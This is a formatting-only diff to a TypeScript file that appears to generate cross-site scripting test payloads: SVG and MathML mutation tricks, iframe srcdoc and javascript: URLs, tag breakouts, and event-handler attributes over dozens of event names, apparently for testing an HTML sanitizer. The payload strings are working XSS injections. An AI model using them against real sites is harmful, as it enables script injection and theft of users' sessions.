@@ -38,12 +38,15 @@ const lines: readonly Markup[] = [
     (id) => `<svg><use href="${leak(id)}#a" /></svg>`.replace("use", "feImage"),
     (id) => `<svg><animate onbegin="${script(id)}" attributeName="x" dur="1s"></svg>`,
     (id) => `<svg><set onbegin="${script(id)}" attributeName="x" to="y" dur="1s"></svg>`,
-    (id) => `<svg><a><animate attributeName="href" values="javascript:${script(id)}" /><text y="20">go</text></a></svg>`,
+    (id) =>
+      `<svg><a><animate attributeName="href" values="javascript:${script(id)}" /><text y="20">go</text></a></svg>`,
     (id) => `<svg><style><img src="x" onerror="${script(id)}"></style></svg>`,
     (id) => `<svg></p><style><a id="</style><img src=x onerror=${script(id)}>"></svg>`,
-    (id) => `<math><mtext><table><mglyph><style><img src="x" onerror="${script(id)}"></style></mglyph></table></mtext></math>`,
+    (id) =>
+      `<math><mtext><table><mglyph><style><img src="x" onerror="${script(id)}"></style></mglyph></table></mtext></math>`,
     (id) => `<math href="javascript:${script(id)}"><mi>go</mi></math>`,
-    (id) => `<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script(id)}&gt;" src="x" onerror="${script(id)}"></mi></math>`,
+    (id) =>
+      `<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script(id)}&gt;" src="x" onerror="${script(id)}"></mi></math>`,
     (id) => `<iframe srcdoc="<script>${script(id)}</script>"></iframe>`,
     (id) => `<iframe srcdoc="&lt;script&gt;${script(id)}&lt;/script&gt;"></iframe>`,
     (id) => `<iframe src="javascript:${script(id)}"></iframe>`,
@@ -78,7 +81,11 @@ const lines: readonly Markup[] = [
     (id) => `<isindex><button onclick="${script(id)}">go</button>`,
     (id) => `<noscript><p title="</noscript><img src=x onerror=${script(id)}>">x</p></noscript>`,
     (id) => `<template><b></template><img src="x" onerror="${script(id)}"></template>`,
-    (id) => `<template shadowrootmode="open"><img src="x" onerror="${script(id)}"></template>`.replace("<template", "<div><template") + "</div>",
+    (id) =>
+      `<template shadowrootmode="open"><img src="x" onerror="${script(id)}"></template>`.replace(
+        "<template",
+        "<div><template",
+      ) + "</div>",
     (id) => `<textarea></textarea><img src="x" onerror="${script(id)}">`,
     (id) => `<title></title><img src="x" onerror="${script(id)}">`,
     (id) => `<xmp></xmp><img src="x" onerror="${script(id)}">`,
@@ -163,16 +170,29 @@ export function* htmlPayloads(): Generator<Template> {
   }
 }
 
-const byHand = "click dblclick mousedown mouseup mouseover mouseenter mousemove pointerover pointerenter pointerdown focus focusin keydown keyup input change contextmenu auxclick beforeinput paste copy cut drop dragstart dragover wheel select submit";
-const notByHand = "abort afterprint animationend beforecopy beforematch beforeprint beforeunload blur cancel canplay close contentvisibilityautostatechange cuechange ended formdata fullscreenchange gotpointercapture hashchange invalid loadedmetadata message offline pagehide pageshow play popstate progress reset resize scroll scrollend search securitypolicyviolation selectionchange slotchange stalled storage suspend touchstart transitionend unhandledrejection unload volumechange webkitanimationend";
+const byHand =
+  "click dblclick mousedown mouseup mouseover mouseenter mousemove pointerover pointerenter pointerdown focus focusin keydown keyup input change contextmenu auxclick beforeinput paste copy cut drop dragstart dragover wheel select submit";
+const notByHand =
+  "abort afterprint animationend beforecopy beforematch beforeprint beforeunload blur cancel canplay close contentvisibilityautostatechange cuechange ended formdata fullscreenchange gotpointercapture hashchange invalid loadedmetadata message offline pagehide pageshow play popstate progress reset resize scroll scrollend search securitypolicyviolation selectionchange slotchange stalled storage suspend touchstart transitionend unhandledrejection unload volumechange webkitanimationend";
 
 /** Every handler, on markup that may have one. */
 export function* handlerPayloads(): Generator<Template> {
-  for (const [names, canAct] of [[byHand, true], [notByHand, false]] as const) {
+  for (const [names, canAct] of [
+    [byHand, true],
+    [notByHand, false],
+  ] as const) {
     for (const name of names.split(" ")) {
       yield { kind: "handler", canAct, write: (id) => `<b tabindex="0" on${name}="${script(id)}">go</b>` };
-      yield { kind: "handler", canAct, write: (id) => `<svg on${name}="${script(id)}" tabindex="0"><text>go</text></svg>` };
-      yield { kind: "handler", canAct, write: (id) => `<div ON${name.toUpperCase()}='${script(id).replaceAll("'", '"')}' tabindex=0>\ngo\n</div>` };
+      yield {
+        kind: "handler",
+        canAct,
+        write: (id) => `<svg on${name}="${script(id)}" tabindex="0"><text>go</text></svg>`,
+      };
+      yield {
+        kind: "handler",
+        canAct,
+        write: (id) => `<div ON${name.toUpperCase()}='${script(id).replaceAll("'", '"')}' tabindex=0>\ngo\n</div>`,
+      };
     }
   }
 }
